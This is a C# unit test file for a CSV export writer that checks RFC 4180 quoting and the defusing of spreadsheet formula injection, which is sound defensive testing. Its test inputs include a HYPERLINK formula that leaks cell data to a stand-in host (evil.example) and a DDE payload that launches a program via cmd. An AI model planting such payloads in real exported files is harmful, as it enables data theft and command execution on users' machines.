using Custodian.Exports;

namespace Custodian.Tests.Exports;

/// <summary>The one CSV writer: RFC 4180 quoting and line ends, and no cell a spreadsheet would run as a formula.</summary>
public sealed class CsvTests
{
    [Theory]
    [InlineData("=1+2", "\"'=1+2\"")]
    [InlineData("+1+2", "\"'+1+2\"")]
    [InlineData("-1+2", "\"'-1+2\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\t=1+2", "\"'\t=1+2\"")]
    [InlineData("\r=1+2", "\"'\r=1+2\"")]
    [InlineData("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"x\")", "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"x\"\")\"")]
    public void ACellThatCouldStartAFormulaIsPrefixedWithAQuoteAndQuoted(string value, string written) =>
        Assert.Equal(written, Csv.Cell(value));

    [Theory]
    [InlineData("plain text", "plain text")]
    [InlineData("", "")]
    [InlineData(null, "")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData("two\r\nlines", "\"two\r\nlines\"")]
    [InlineData("a=1", "a=1")]
    [InlineData(" =1", " =1")]
    [InlineData("2026-11-26T10:00:00.0000000+00:00", "2026-11-26T10:00:00.0000000+00:00")]
    public void OtherCellsAreQuotedOnlyWhenRfc4180NeedsIt(string? value, string written) =>
        Assert.Equal(written, Csv.Cell(value));

    [Fact]
    public void EveryFormulaStartIsNeutralised() =>
        Assert.All(Csv.FormulaStarts, c => Assert.StartsWith("\"'" + c, Csv.Cell(c + "x")));

    [Fact]
    public void ADocumentIsTheHeaderThenOneCrlfEndedRowPerEntry()
    {
        var csv = Csv.Write(["name", "note"], [["a", "=cmd|' /C calc'!A0"], ["b,c", "line\nbreak"]]);

        Assert.Equal("name,note\r\na,\"'=cmd|' /C calc'!A0\"\r\n\"b,c\",\"line\nbreak\"\r\n", csv);
    }

    [Fact]
    public void ARowOfTheWrongLengthIsABug() =>
        Assert.Throws<ArgumentException>(() => Csv.Write(["a", "b"], [["only one"]]));
}
